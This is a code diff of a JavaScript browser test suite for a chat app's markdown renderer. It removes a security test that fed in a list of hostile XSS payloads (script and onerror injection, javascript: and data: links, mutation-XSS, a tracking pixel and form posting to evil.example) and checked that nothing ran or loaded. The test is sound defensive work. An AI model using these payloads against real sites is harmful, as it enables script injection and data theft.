@@ -31,51 +31,7 @@ func main() {
 A_word_without_any_place_to_break_that_goes_on_and_on_and_on_${"x".repeat(200)}
 `;
 
-const hostile = [
-  "<script>window.pwned = 1; alert(1)</script>",
-  "<img src=x onerror=\"window.pwned = 2; alert(2)\">",
-  "<svg onload=alert(3)><iframe srcdoc=\"<script>parent.pwned=3</script>\"></iframe></svg>",
-  "<style>body{background:url(https://evil.example/css)}</style>",
-  "[click](javascript:window.pwned=4) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:x) [user](https://bank.example@evil.example/)",
-  "[tab](java&Tab;script:window.pwned=5) <javascript:window.pwned=6> [rel](//evil.example) [own](/api/v1/conversations)",
-  "![tracker](https://evil.example/pixel.png?secret=1) ![js](javascript:alert(7)) ![svg](data:image/svg+xml,<svg onload=alert(8)>)",
-  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=9>",
-  "<a href=\"javascript:window.pwned=10\" style=\"position:fixed;inset:0\">x</a>",
-  "<form action=https://evil.example><input name=q autofocus onfocus=window.pwned=11></form>",
-  "<object data=https://evil.example></object><embed src=https://evil.example><link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
-  "```html\n<script>window.pwned = 12</script>\n```",
-  "| <img src=x onerror=window.pwned=13> |\n|---|\n| [x](javascript:window.pwned=14) |",
-  `[safe](https://example.org/ "title\\" onmouseover=\\"window.pwned=15")`,
-  "\u202Egnirts\u202C " + "e\u0301\u0302\u0303".repeat(300) + " " + "*".repeat(2000) + "[".repeat(2000) + ">".repeat(500),
-].join("\n\n");
-
 export const stories = {
-  "hostile markdown does nothing": async (t) => {
-    const e = await t.engine({ delay: 4, answer: () => hostile });
-    const n = await t.node({ engine: e.url });
-    const p = await t.page(n.url);
-    await p.say(hostile.slice(0, 1500));
-    await p.finished(1, 60_000);
-    await p.page.reload();
-    await p.finished();
-    await pause(300); // whatever would load or run had the time to
-    const made = await p.page.evaluate(() => ({
-      pwned: window.pwned,
-      inside: [...document.querySelectorAll(".md *")].map((x) => x.localName).filter((x) => /^(script|img|svg|iframe|style|form|input|object|embed|link|base|meta|math)$/.test(x) && x !== "svg"),
-      images: document.querySelectorAll(".md img, .md picture, .md video, .md audio").length,
-      hrefs: [...document.querySelectorAll(".md a")].map((a) => [a.getAttribute("href"), a.rel, a.target]),
-      styled: document.querySelectorAll(".md [style]").length,
-    }));
-    ok(made.pwned === undefined, `nothing ran (${made.pwned})`);
-    ok(made.inside.length === 0 && made.images === 0 && made.styled === 0, `no such elements: ${JSON.stringify(made)}`);
-    for (const [href, rel, target] of made.hrefs) {
-      ok(/^https?:\/\/(example\.org|(evil|bank)\.example)([/?#]|$)/.test(href), `only plain addresses are links: ${href}`);
-      ok(/noopener/.test(rel) && target === "_blank", `${href} opens apart (${rel}, ${target})`);
-    }
-    equal(p.foreign.join(" "), "", "requests to others");
-    equal(p.errors.join(" "), "", "errors");
-  },
-
   "the policy forbids what is not ours": async (t) => {
     const n = await t.node({ engine: "demo" });
     const p = await t.page(n.url);
